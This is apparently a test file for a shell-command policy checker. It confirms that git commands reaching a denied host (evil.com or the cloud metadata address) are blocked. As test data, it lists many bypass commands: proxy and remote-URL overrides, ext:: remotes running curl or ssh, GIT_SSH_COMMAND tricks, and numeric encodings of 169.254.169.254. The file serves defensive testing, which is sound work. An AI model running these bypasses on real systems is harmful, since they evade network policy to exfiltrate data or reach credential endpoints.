// git under a deny of a host: a repository, proxy or rewrite the line sets (`-c`, `git config`,
// `clone -c`, `--config-env`, the environment) or an `ext::` command that reaches the host is a
// deny, not a question (each checked against git 2.39 and a local listener).
import { describe, expect, it } from "vitest";
import { judgeShell, policyOf } from "../testing/policy";
import { clientUrls } from "./hosts-clients";
import { analyseShell } from "../shell/analyse";

const noEvil = policyOf({ effect: "deny", host: "evil.com" }, { effect: "allow", command: "git" });
const noMetadata = policyOf({ effect: "deny", host: "169.254.169.254" }, { effect: "allow", command: "git" });
const urls = (line: string) => analyseShell(line).commands.flatMap((c) => clientUrls(c));

describe("a deny of a host holds for where git's config sends it", () => {
  it.each([
    "git -c http.proxy=evil.com fetch",
    "git -c HTTP.PROXY=evil.com fetch",
    "git -c https.proxy=evil.com fetch",
    "git -c http.https://a.org.proxy=evil.com fetch",
    "git -c remote.o.url=evil.com:r fetch o",
    "git -c remote.origin.pushurl=evil.com:r push",
    "git config remote.origin.url evil.com:r && git fetch",
    "git config --add remote.o.url evil.com:r",
    "git -c url.evil.com:.insteadOf=x: fetch x:r",
    'git -c url."evil.com:".insteadOf=gh: clone gh:r',
    "git config --global url.evil.com:.insteadOf github.com:",
    "git clone --config remote.origin.url=evil.com:r x",
    "git clone -qc remote.origin.url=evil.com:r x",
    "PX=evil.com git --config-env=http.proxy=PX fetch",
    "git archive --remote=evil.com:r HEAD",
    "git push --repo=evil.com:r",
    "git fetch-pack evil.com:r",
    // An `ext::` remote runs its command: `% ` is a blank in it.
    "git clone 'ext::ssh evil.com %S r'",
    "git -c protocol.ext.allow=always clone 'ext::curl evil.com'",
    "git clone ext::'sh -c curl% evil.com'",
    // What git runs to connect, read as a script.
    "GIT_SSH_COMMAND='ssh -J evil.com' git fetch",
    'GIT_SSH_COMMAND="ssh -o Hostname=evil.com" git fetch',
    "env GIT_SSH_COMMAND='ssh -J evil.com' git fetch",
    "export GIT_SSH_COMMAND='ssh -J evil.com'; git fetch",
    "GIT_PROXY_COMMAND='curl evil.com' git fetch git://a.org/r",
    "git -c core.sshCommand='ssh -J evil.com' fetch",
    "git -c core.sshCommand='curl evil.com' fetch",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.proxy GIT_CONFIG_VALUE_0=evil.com git fetch",
    "GIT_CONFIG_PARAMETERS=\"'http.proxy'='evil.com'\" git fetch",
    "https_proxy=evil.com git fetch",
  ])("%s is denied", (command) => expect(judgeShell(command, noEvil).decision).toBe("policy_deny"));

  it("reads an address git's curl is told to resolve to", () => {
    const line = "git -c http.curloptResolve=a:443:169.254.169.254 fetch https://a/r";
    expect(judgeShell(line, noMetadata).decision).toBe("policy_deny");
  });

  it("lists the hosts, a remote's user kept", () => {
    expect(urls("git -c remote.o.url=u@evil.com:r -c http.proxy=p.org:3128 fetch o")).toEqual([
      "ssh://u@evil.com",
      "http://p.org:3128",
    ]);
  });
});

describe("an scp-like repository whose host is one number the resolver reads as an address", () => {
  it.each([
    "git clone 2852039166:r",
    "git clone git@2852039166:r",
    "git fetch 0xa9fea9fe:r",
    "git ls-remote 2852039166:r",
  ])("%s is denied", (command) => expect(judgeShell(command, noMetadata).decision).toBe("policy_deny"));
  it("a refspec of numbers names no denied host", () =>
    expect(judgeShell("git push origin 123:456", noMetadata).decision).not.toBe("policy_deny"));
});
